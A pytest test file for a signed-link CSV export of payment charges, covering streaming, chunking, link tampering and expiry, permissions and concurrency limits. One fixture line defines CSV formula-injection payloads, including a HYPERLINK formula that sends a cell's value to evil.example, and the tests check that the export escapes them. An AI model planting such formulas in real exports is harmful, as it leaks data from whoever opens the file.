"""The streamed CSV export: `GET /api/exports/charges.csv` with a link the Charges page signs
answers exactly the bytes the export builds, in chunks as the rows arrive, on SQLite and
PostgreSQL, and refuses a missing, altered, expired or outdated link with a plain 403."""

from __future__ import annotations

import csv
import io
import socket
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import h11
import httpx
import itsdangerous.timed
import pytest
from cryptography.fernet import Fernet
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.testclient import TestClient

import lib.config
import lib.exports.route
from lib.exports import (
    EXPORT_ROUTE_PATH,
    LINK_PARAM,
    LINK_TTL_SECONDS,
    ExportGrant,
    export_signing_key,
    issue_export_link,
)
from lib.finance import ChargeFilters, charges_csv, charges_csv_chunks
from lib.finance.export import CSV_CHUNK_BYTES
from lib.http_routes import build_routes
from lib.store import get_engine
from lib.sync import write_objects
from tests.asgi_server import ServedApp
from tests.mirror_support import charge_object
from tests.sign_in_support import ADMIN, OUTSIDER, VIEWER, configure_sign_in

NOW = datetime(2026, 11, 15, 12, 0, tzinfo=UTC)
ACCOUNT = "demo"  # no key is configured in tests, so the pages show the demo account
HOSTILE = ('=HYPERLINK("https://evil.example/?d="&A1,"Invoice")', "@SUM(1+1)", "+1-2", "\t=1")
ALL = ChargeFilters(preset="all")


def charges(count: int) -> list[dict[str, object]]:
    """`count` charges a minute apart before NOW, USD and JPY, some with hostile text."""
    return [
        charge_object(
            f"ch_{number:06d}",
            1999 + number,
            "usd" if number % 3 else "jpy",
            created=int(NOW.timestamp()) - number * 60,
            description=HOSTILE[number % len(HOSTILE)] if number % 2 else f"Order {number}",
            billing_details={"email": f"buyer{number}@example.com", "name": "Ana Lima"},
            metadata={"order": str(number)},
        )
        for number in range(count)
    ]


@pytest.fixture
def app_database(db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The app's own database (what the route reads) on each backend."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    lib.config.get_settings.cache_clear()


def mirror(count: int) -> None:
    with get_engine().begin() as connection:
        write_objects(connection, ACCOUNT, "charges", charges(count), int(NOW.timestamp()))


def link_for(
    filters: ChargeFilters = ALL, *, user: str | None = None, account: str = ACCOUNT
) -> str:
    grant = ExportGrant(account, filters, NOW, user)
    return issue_export_link(export_signing_key(lib.config.get_settings()), grant)


def download(link: str | None) -> httpx.Response:
    client = TestClient(Starlette(routes=build_routes()))
    return client.get(EXPORT_ROUTE_PATH, params={} if link is None else {LINK_PARAM: link})


def assert_refused(response: httpx.Response, words: str) -> None:
    assert response.status_code == 403
    assert response.headers["content-type"].startswith("text/plain")
    assert words in response.text
    assert "ch_" not in response.text


def test_the_route_streams_exactly_what_the_export_builds(app_database: None) -> None:
    mirror(120)
    filters = ChargeFilters(preset="all", currencies=("usd",), sort="amount", descending=False)

    response = download(link_for(filters))

    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="charges-20261115-1200.csv"'
    )
    assert response.content == charges_csv(get_engine(), ACCOUNT, filters, NOW)
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 80 and {row["currency"] for row in rows} == {"USD"}
    amounts = [int(row["amount"].replace(".", "")) for row in rows]
    assert amounts == sorted(amounts)


def test_the_streamed_csv_keeps_formulas_inert(app_database: None) -> None:
    mirror(8)

    rows = list(csv.DictReader(io.StringIO(download(link_for()).text)))

    described = {row["id"]: row["description"] for row in rows}
    for number in (1, 3, 5, 7):
        assert described[f"ch_{number:06d}"] == "'" + HOSTILE[number % len(HOSTILE)]
    assert described["ch_000002"] == "Order 2"
    assert rows[0]["amount"] == "1999" and rows[0]["currency"] == "JPY"


def test_the_link_counts_relative_ranges_from_the_page_s_moment(app_database: None) -> None:
    mirror(8)  # a minute apart before NOW: the last 7 days hold all of them, seen from NOW

    rows = list(csv.DictReader(io.StringIO(download(link_for(ChargeFilters(preset="7d"))).text)))

    assert len(rows) == 8


def test_a_large_export_leaves_the_server_in_chunks() -> None:
    mirror(3_000)
    expected = charges_csv(get_engine(), ACCOUNT, ALL, NOW)
    assert len(expected) > 4 * CSV_CHUNK_BYTES

    with ServedApp(Starlette(routes=build_routes())) as served:
        target = f"{EXPORT_ROUTE_PATH}?{LINK_PARAM}={link_for()}"
        chunks = list(http_chunks(served.connect(), target))

    assert b"".join(chunks) == expected
    assert len(chunks) >= 5
    assert chunks[0].startswith(b"id,created_utc,") and chunks[0].endswith(b"\r\n")
    assert max(len(chunk) for chunk in chunks) < 2 * CSV_CHUNK_BYTES


def http_chunks(connection: socket.socket, target: str) -> Iterator[bytes]:
    """The body of GET `target` as the server framed it: one item per HTTP/1.1 chunk."""
    client = h11.Connection(h11.CLIENT)
    request = h11.Request(method="GET", target=target, headers=[("Host", "127.0.0.1")])
    connection.sendall(client.send(request) + client.send(h11.EndOfMessage()))
    chunk = b""
    with connection:
        while True:
            event = client.next_event()
            if event is h11.NEED_DATA:
                client.receive_data(connection.recv(65_536))
            elif isinstance(event, h11.Response):
                assert event.status_code == 200
                assert (b"transfer-encoding", b"chunked") in list(event.headers)
            elif isinstance(event, h11.Data):
                chunk += event.data
                if event.chunk_end:
                    yield chunk
                    chunk = b""
            elif isinstance(event, h11.EndOfMessage):
                return


def test_without_a_link_or_with_an_altered_one_nothing_is_exported(app_database: None) -> None:
    mirror(3)
    link = link_for()
    payload, _, signature = link.rpartition(".")
    wider = link_for(ChargeFilters(preset="all", currencies=("usd",)))

    assert_refused(download(None), "not valid or has expired")
    assert_refused(download(""), "not valid or has expired")
    assert_refused(download(payload + "." + signature[::-1]), "not valid or has expired")
    # Another link's filters under this link's signature.
    assert_refused(download(wider.partition(".")[0] + link[link.index(".") :]), "not valid")
    assert_refused(download("x" * 5000), "not valid or has expired")


def test_an_expired_link_or_one_signed_with_another_key_is_refused(
    app_database: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    mirror(3)
    then = time.time() - LINK_TTL_SECONDS - 5
    with monkeypatch.context() as past:
        past.setattr(itsdangerous.timed.time, "time", lambda: then)
        expired = link_for()
    monkeypatch.setenv("APP_ENCRYPTION_KEY", Fernet.generate_key().decode())
    lib.config.get_settings.cache_clear()
    other_key = link_for()
    monkeypatch.delenv("APP_ENCRYPTION_KEY")
    lib.config.get_settings.cache_clear()

    assert download(link_for()).status_code == 200
    assert_refused(download(expired), "not valid or has expired")
    assert_refused(download(other_key), "not valid or has expired")


def test_with_sign_in_the_link_s_user_must_still_be_allowed(
    app_database: None, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    mirror(3)
    configure_sign_in(monkeypatch, tmp_path)

    assert download(link_for(user=VIEWER)).status_code == 200
    assert download(link_for(user=ADMIN)).status_code == 200
    assert_refused(download(link_for(user=OUTSIDER)), "no longer export")
    assert_refused(download(link_for(user=None)), "no longer export")
    removed = link_for(user=VIEWER)
    monkeypatch.setenv("ALLOWED_EMAIL_DOMAINS", "example.org")
    lib.config.get_settings.cache_clear()
    assert_refused(download(removed), "no longer export")


def test_a_link_for_an_account_no_longer_shown_is_refused(app_database: None) -> None:
    mirror(3)

    assert_refused(download(link_for(account="settings:0123456789abcdef")), "no longer shows")


def test_exports_at_once_are_bounded_and_each_gives_its_slot_back(app_database: None) -> None:
    mirror(3)
    slots = lib.exports.route._export_slots
    held = [slots.acquire(blocking=False) for _ in range(lib.exports.route.EXPORTS_AT_ONCE)]
    try:
        busy = download(link_for())
    finally:
        for _ in held:
            slots.release()

    assert busy.status_code == 503 and busy.headers["retry-after"] == "30"
    # Finished, failed half-way or never started: every download gives its slot back.
    for _ in range(lib.exports.route.EXPORTS_AT_ONCE + 1):
        assert download(link_for()).status_code == 200
    request_scope = {"type": "http", "method": "GET", "path": EXPORT_ROUTE_PATH, "headers": []}
    for _ in range(lib.exports.route.EXPORTS_AT_ONCE + 1):
        scope = {**request_scope, "query_string": f"{LINK_PARAM}={link_for()}".encode()}
        unsent = lib.exports.route.export_charges_csv(Request(scope))
        assert unsent.status_code == 200
        del unsent
    assert download(link_for()).status_code == 200


def test_a_running_export_does_not_hold_up_writes(app_database: None) -> None:
    mirror(3_000)
    engine = get_engine()
    chunks = charges_csv_chunks(engine, ACCOUNT, ALL, NOW, chunk_bytes=1_000)
    next(chunks), next(chunks)  # the header, then rows: the export's read is open

    with engine.begin() as connection:  # on SQLite this waited for the export, then failed
        write_objects(connection, ACCOUNT, "charges", charges(1), int(NOW.timestamp()) + 1)
    rest = b"".join(chunks)

    assert rest.count(b"\r\n") > 2_900
